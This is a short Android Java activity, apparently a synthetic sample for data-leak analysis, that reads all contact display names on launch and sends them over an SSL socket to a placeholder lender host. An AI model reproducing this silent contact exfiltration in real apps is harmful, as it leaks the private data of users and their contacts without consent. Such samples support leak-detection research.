package com.example.flows.ssl_socket;

import android.accounts.*;
import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.*;
import android.os.*;
import android.provider.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import org.json.*;

/** Names are written to a secure socket by a printing writer. */
public class MainActivity extends Activity {
    @Override
    public void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            java.net.Socket socket = javax.net.ssl.SSLSocketFactory.getDefault().createSocket("api.lender.example", 443);
            PrintWriter out = new PrintWriter(new BufferedWriter(new OutputStreamWriter(socket.getOutputStream())), true);
            out.printf("names %s", contacts());
        } catch (IOException e) {
            throw new RuntimeException(e);
        }
    }
    String contacts() {
        StringBuilder names = new StringBuilder();
        Cursor cursor = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        while (cursor.moveToNext()) {
            names.append(cursor.getString(cursor.getColumnIndex("display_name"))).append(';');
        }
        cursor.close();
        return names.toString();
    }
}
